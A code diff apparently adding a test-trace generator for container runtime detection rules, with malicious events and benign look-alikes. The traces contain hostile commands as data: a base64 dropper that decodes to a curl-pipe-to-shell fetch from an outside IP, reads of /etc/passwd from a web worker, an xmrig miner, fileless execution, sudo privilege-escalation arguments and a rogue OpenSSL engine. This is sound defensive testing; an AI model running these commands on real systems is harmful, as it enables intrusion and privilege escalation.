@@ -577,6 +577,41 @@ def python_scripts():
     t.write()
 
 
+def rules():
+    t = Trace("rules")
+    t.comment("detection rules (rules/*.toml) through the engine: several rule categories, and look-alikes that stay quiet")
+    web_server(t)
+    t.comment("Unexpected Child Shell: the CGI handler's nginx worker runs a shell (twice: one finding, count 2)")
+    t.fork(110, 100)
+    t.exec(110, 100, "/bin/sh", ["/bin/sh", "-c", "id"], WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 601), DEVNULL])
+    t.exit(110)
+    t.fork(111, 100)
+    t.exec(111, 100, "/bin/sh", ["/bin/sh", "-c", "cat /etc/passwd"], WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 602), DEVNULL])
+    t.exit(111)
+    t.comment("a base64-encoded dropper decoded and run; its command line is the base64 rule's")
+    enc = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42Ni94IHwgc2g="  # curl -s http://198.51.100.66/x | sh
+    t.fork(120, 101)
+    t.exec(120, 101, "/bin/bash", ["bash", "-c", "echo " + enc + " | base64 -d | sh"], WEB, stdio=[DEVNULL, fd("pipe", 603), DEVNULL])
+    t.comment("a miner pointed at a stratum pool, from the worker container")
+    t.exec(300, 1, "/tmp/.cache/xmrig", ["xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet", "-p", "x"], WORKER, layer="added")
+    t.comment("fileless: a memfd binary, and one from /dev/shm")
+    t.exec(301, 1, "/memfd:kthreadd (deleted)", ["kthreadd"], WORKER, layer="memfd")
+    t.exec(302, 1, "/dev/shm/.x", ["/dev/shm/.x"], WORKER, layer="notOverlay")
+    t.comment("sudo CVE patterns and an OpenSSL engine from /tmp")
+    t.exec(303, 1, "/usr/bin/sudo", ["sudo", "-u#-1", "/bin/bash"], WORKER, uid=1000)
+    t.exec(304, 1, "/usr/bin/sudoedit", ["sudoedit", "-s", "AAAAAAAA\\"], WORKER, uid=1000)
+    t.exec(305, 1, "/usr/bin/openssl", ["openssl", "req", "-engine", "/tmp/libpwn.so"], WORKER)
+    t.comment("look-alikes that stay quiet: an entrypoint's shell, sudo as another user, openssl without an engine, base64 of data")
+    t.exec(400, 1, "/usr/bin/catatonit", ["catatonit", "--", "/entrypoint.sh"], WORKER)
+    t.fork(401, 400)
+    t.exec(401, 400, "/bin/bash", ["bash", "/entrypoint.sh"], WORKER)
+    t.exec(402, 1, "/usr/bin/sudo", ["sudo", "-u", "www-data", "id"], WORKER, uid=1000)
+    t.exec(403, 1, "/usr/bin/openssl", ["openssl", "s_client", "-connect", "127.0.0.1:443"], WORKER)
+    t.exec(404, 1, "/usr/bin/base64", ["base64", "-d", "/app/logo.b64"], WORKER)
+    t.exec(405, 1, "/usr/local/bin/python3", ["python3", "-m", "http.server", "--bind", "127.0.0.1"], WORKER)
+    t.write()
+
+
 def malformed():
     t = Trace("malformed-lines")
     t.comment("bad lines are reported with line number and field, skipped, and the rest still detected")
@@ -594,5 +629,5 @@ def malformed():
 
 if __name__ == "__main__":
     for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
-              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, malformed):
+              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, malformed):
         f()
